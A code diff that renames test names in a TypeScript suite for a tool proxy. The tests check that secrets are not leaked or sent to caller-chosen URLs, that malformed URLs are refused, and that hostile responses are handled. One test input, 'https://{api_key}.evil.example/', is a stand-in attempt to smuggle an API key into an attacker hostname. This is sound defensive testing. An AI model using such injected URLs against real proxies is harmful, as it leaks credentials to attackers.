@@ -87,7 +87,7 @@ const proxy = (endpoint: string, more: object = {}) =>
   project.member.as('ada').post(`${tools}/proxy`, { endpoint, ...more })
 
 describe('secrets stay where they were meant to go', () => {
-  test('a member cannot have the secret of a client sent to an address of their own', async () => {
+  test('a member cannot have the secret of a client sent to their own URL', async () => {
     await project.admin.post(toolkits, {
       slug: 'client-secret',
       name: 'C',
@@ -126,7 +126,7 @@ describe('secrets stay where they were meant to go', () => {
   })
 })
 
-describe('what a caller writes into an address', () => {
+describe('what a caller writes into a URL', () => {
   test('names no field of the account: none is filled in, and no refusal spells one', async () => {
     await keyToolkit('braces')
     const host = await proxy('https://{api_key}.evil.example/', { toolkitSlug: 'braces' })
@@ -147,7 +147,7 @@ describe('what a caller writes into an address', () => {
       assert.ok(!reported.text.toLowerCase().includes(apiKey.toLowerCase()), reported.text)
     }
   })
-  test('is refused as the fault of the caller where it is no address', async () => {
+  test('is refused as a client error where it is no URL', async () => {
     await keyToolkit('no-address')
     for (const endpoint of ['http://[::1', 'http://127.0.0.1:99999/', 'http://127.0.0.1%00/']) {
       const { status, body } = await proxy(endpoint, { toolkitSlug: 'no-address' })
@@ -211,7 +211,7 @@ describe('a toolkit with accounts', () => {
   })
 })
 
-describe('a service that answers to do harm', () => {
+describe('a service with hostile responses', () => {
   const nested = (levels: number) => `${'['.repeat(levels)}"x"${']'.repeat(levels)}`
   const says = (body: string) => {
     answers = (_, response) => {
@@ -251,7 +251,7 @@ describe('refusals', () => {
 })
 
 describe('an encrypted service', () => {
-  test('is not called without TLS with an account, wherever the address comes from', async () => {
+  test('is not called without TLS with an account, wherever the URL comes from', async () => {
     await keyToolkit('only-https', 'https://api.example.com')
     const requested = await proxy('http://api.example.com/x', { toolkitSlug: 'only-https' })
     assert.equal(requested.body.data.errorCode, 'host_not_allowed', requested.text)
